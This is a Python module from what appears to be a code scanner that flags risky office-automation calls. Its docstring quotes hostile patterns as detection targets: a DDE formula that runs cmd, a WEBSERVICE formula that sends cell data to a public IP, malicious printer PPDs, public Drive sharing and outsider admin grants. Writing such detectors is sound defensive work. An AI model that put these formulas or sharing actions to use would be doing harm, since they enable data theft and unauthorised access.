"""Office work from Python: pycups, the Google Workspace APIs (discovery client), Microsoft Graph and Nextcloud's
OCS API through requests, openpyxl, python-docx, csv, pandas and zipfile writing documents (session 31). The judgement
is office_tables.code_finding's; this reads the calls:

- a print queue added (`cups.Connection().addPrinter(device=…)`) for a bare public address or a drop service (also
  `hp:/net/…?ip=…`), or with a PPD (`filename=`) whose foomatic command fetches or starts a shell: blocked;
- Drive permissions created for anyone or for an outsider's address (`permissions().create(body={"type": "anyone"})`):
  blocked once per item of a loop (the call in a loop or a comprehension, in a lambda that `map` runs, or in a function
  called so), or for a free mail account as a writer; reviewed once;
- a Workspace administrator role given to an account the code made with a password it knows: blocked; a recovery
  address set to an outsider's (idp.recovery);
- a guest invited from outside made an owner of a group (`/groups/{id}/owners/$ref` after `/invitations`): blocked;
  a public share link made or an invitation's redeem link in code that posts to an outsider's host: blocked;
- a workbook or CSV whose cells run a program through DDE (`=cmd|' /C …'!A0`, also joined from pieces) or send other
  cells to a bare public address or a drop service (`=WEBSERVICE("http://203.0.113.9/?d="&ENCODEURL(B2))`; to a
  domain the code names nowhere else: reviewed), a document that loads its template from a bare address (from a
  domain the code names nowhere else: reviewed), LibreOffice's macro security set to its lowest: blocked;
- a shared drive deleted, the Drive trash emptied, a workbook on a share saved back over itself after sheets were
  removed: reviewed `irreversible`.
A queue for a printer on this network, permissions for the organisation's own accounts or a named partner's address,
a sharing permission deleted (office_tables.access_revoked, which python/http_calls' DELETE review also asks),
workbooks written into the project, links (HYPERLINK) and pictures (IMAGE) of a sheet stay allowed.
"""
from __future__ import annotations

from .. import backups_tables as bt
from .. import office_tables as ot
from ..loops import in_loop
from ..per_input import decoded, in_input, once

_LOOPS = frozenset({"for_statement", "while_statement", "list_comprehension", "generator_expression",
                    "set_comprehension", "dictionary_comprehension"})
_BOUNDS = frozenset({"function_definition", "class_definition"})
_VALUES = frozenset({"dictionary", "string", "concatenated_string", "call", "list", "binary_operator"})
# the calls that run the function they are handed once per item (`map(lambda f: …, files)`, `pool.map(share, ids)`)
_MAPPERS = frozenset({"map", "filter", "starmap", "imap", "imap_unordered", "submit"})
_NODES_READ = 50_000  # (a search of the code for a helper's calls stops there)


def _mapper(call) -> bool:
    fn = call.child_by_field_name("function")
    if fn is None:
        return False
    name = fn.child_by_field_name("attribute") if fn.type == "attribute" else fn
    return name is not None and name.text.decode("utf-8", "replace") in _MAPPERS


def _per_item(node) -> bool:
    """Whether `node` runs once per item: in a loop or a comprehension, or in a lambda a mapper is handed."""
    if in_loop(node, _LOOPS, _BOUNDS):
        return True
    up = node.parent
    while up is not None and up.type not in _BOUNDS:
        if up.type == "lambda" and up.parent is not None and up.parent.type == "argument_list" and \
                _mapper(up.parent.parent):
            return True
        up = up.parent
    return False


def _per_item_names(root) -> frozenset[bytes]:
    """The names the code calls once per item (`share(f["id"])` in a `for` loop) or hands to a mapper
    (`pool.map(share, ids)`): read once per input, the first _NODES_READ nodes."""
    out: set[bytes] = set()
    stack, read = [root], 0
    while stack and read < _NODES_READ:
        n = stack.pop()
        read += 1
        if n.type == "identifier" and n.parent is not None:
            up = n.parent
            if up.type == "call" and up.child_by_field_name("function") == n and _per_item(up) or \
                    up.type == "argument_list" and up.parent is not None and (_mapper(up.parent) or _per_item(up)):
                out.add(n.text)
        stack.extend(n.children)
    return frozenset(out)


def _looped(node, data: bytes) -> bool:
    """_per_item, or in a function the code calls once per item (`def share(fid): …` called in a `for` loop, or handed
    to `map`)."""
    if _per_item(node):
        return True
    fn = node.parent
    while fn is not None and fn.type != "function_definition":
        fn = fn.parent
    name = fn.child_by_field_name("name") if fn is not None else None
    if name is None:
        return False
    root = fn
    while root.parent is not None:
        root = root.parent
    return name.text in once(data, _per_item_names, lambda _: _per_item_names(root))


class Office:
    def visit_office(self, q: str | None, fn, meth: str | None, name: str | None, node, pos: list) -> None:
        """A call (`name` is its last name): settled by its name before anything else is read."""
        if name is None or name not in ot.CODE_NAMES or not in_input(ot.CODE_HINT, self.doc.data):
            return
        if name == "write" and meth is None:
            return
        text = decoded(self.doc.data)
        call = bt.expanded(self, node, _VALUES)
        shown = self.src(fn) if fn.end_byte - fn.start_byte <= 60 else name
        # (whether it runs per item matters to the sharing calls alone, and a helper's calls are searched for then)
        looped = _looped(node, self.doc.data) if "permissions" in call else _per_item(node)
        found = ot.code_finding(name, shown, call, text, looped)
        if found:
            getattr(self, found[0])(found[1], found[2], node)
